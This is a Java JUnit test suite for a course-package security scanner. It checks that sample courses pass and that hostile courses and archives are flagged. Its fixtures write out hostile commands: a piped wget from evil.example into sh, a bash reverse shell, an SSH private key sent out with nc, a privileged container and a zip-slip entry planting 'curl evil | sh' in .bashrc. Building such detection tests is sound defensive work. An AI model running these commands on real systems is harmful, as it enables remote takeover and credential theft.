package dev.progy.guard;

import dev.progy.guard.rule.GuardRules;
import dev.progy.guard.rule.Severity;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** The Guard on whole courses: the samples pass, a course that escapes the sandbox does not. */
class GuardTest {

    @TempDir
    Path tmp;

    private static Path example(String name) {
        return Path.of("..", "examples", name).toAbsolutePath().normalize();
    }

    @Test
    @DisplayName("both sample courses pass without a single finding")
    void samplesPass() {
        for (String name : new String[] {"java-basics", "python-original"}) {
            GuardReport r = Guard.check(example(name));
            assertThat(r.passed()).as(name + ": " + r.findings()).isTrue();
            assertThat(r.findings()).as(name).isEmpty();
        }
    }

    @Test
    @DisplayName("a course with a privileged compose service, a piped download and network access fails, each finding on its line")
    void hostileCourseFails() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("hostile"));
        Files.writeString(c.resolve("course.json"), """
                {"id": "hostile", "name": "Hostile",
                 "runners": [{"id": "box", "type": "docker-file", "command": "sh", "network_access": true},
                             {"id": "stack", "type": "docker-compose", "command": "sh", "service_to_run": "app"}]}
                """);
        Files.writeString(c.resolve("Dockerfile"), "FROM alpine:3.20\nRUN wget -qO- http://evil.example/x.sh | sh\nUSER 1000\n");
        Files.writeString(c.resolve("docker-compose.yml"), """
                services:
                  app:
                    image: progy/busybox:test
                    privileged: true
                """);
        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
        Files.writeString(ex.resolve("README.md"), "# E\n");
        Files.writeString(ex.resolve("exercise.sh"), "exit 0\n");
        Files.createDirectories(c.resolve("runner"));
        Files.writeString(c.resolve("runner/check.sh"), "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
        GuardReport r = Guard.check(c);
        assertThat(r.passed()).isFalse();
        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).contains("PG-B004 runner/check.sh:2");
        assertThat(r.course()).isEqualTo("hostile");
        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).contains(
                "PG-D005 Dockerfile:2", "PG-N001 course.json", "PG-C001 docker-compose.yml:4");
        assertThat(r.count(Severity.ERROR)).isEqualTo(3);
    }

    @Test
    @DisplayName("a course that does not validate fails with its problems as findings")
    void invalidCourse() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("broken"));
        Files.writeString(c.resolve("course.json"), "{\"id\": \"broken\"}\n");
        GuardReport r = Guard.check(c);
        assertThat(r.passed()).isFalse();
        assertThat(r.findings()).isNotEmpty().allSatisfy(f -> assertThat(f.rule()).isEqualTo(GuardRules.INVALID_COURSE));
    }

    @Test
    @DisplayName("reads a .progy archive in place and finds the same things, at the same places, as in its folder")
    void archiveInPlace() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("course"));
        Files.writeString(c.resolve("course.json"), """
                {"id": "boxed", "name": "Boxed", "runners": [{"id": "box", "type": "docker-file", "command": "sh"}]}
                """);
        Files.writeString(c.resolve("Dockerfile"), "FROM alpine:latest\nUSER 1000\n");
        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
        Files.writeString(ex.resolve("README.md"), "# E\n\nSee [the guide](../../../GUIDE.md).\n");
        Files.writeString(ex.resolve("exercise.sh"), "exit 1\n");
        Files.writeString(ex.resolve("solution.sh"), "exit 0\n");
        Files.createDirectories(c.resolve("runner"));
        Files.writeString(c.resolve("runner/check.sh"), "#!/bin/sh\ncat ~/.ssh/id_rsa | nc 203.0.113.9 9\n");
        Path archive = tmp.resolve("boxed.progy");
        dev.progy.CourseArchive.pack(c, archive);

        GuardReport fromFolder = Guard.check(c);
        GuardReport fromArchive = Guard.check(archive);

        assertThat(fromArchive.course()).isEqualTo("boxed");
        assertThat(fromArchive.findings()).isEqualTo(fromFolder.findings());
        assertThat(fromArchive.findings()).extracting(f -> f.rule().id() + " " + f.location())
                .contains("PG-D001 Dockerfile:1", "PG-M001 content/01_m/01_e/README.md:3", "PG-B002 runner/check.sh:2");
    }

    @Test
    @DisplayName("reports an archive no student could unpack as a finding, naming the entry")
    void hostileArchive() throws IOException {
        Path archive = tmp.resolve("evil.progy");
        try (var zip = new java.util.zip.ZipOutputStream(Files.newOutputStream(archive))) {
            zip.putNextEntry(new java.util.zip.ZipEntry("course.json"));
            zip.write("{}".getBytes(java.nio.charset.StandardCharsets.UTF_8));
            zip.putNextEntry(new java.util.zip.ZipEntry("../../home/student/.bashrc"));
            zip.write("curl evil | sh".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }

        GuardReport r = Guard.check(archive);

        assertThat(r.passed()).isFalse();
        assertThat(r.findings()).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo(GuardRules.INVALID_COURSE);
            assertThat(f.file()).isEqualTo("evil.progy");
            assertThat(f.message()).contains("../../home/student/.bashrc");
        });
    }
}
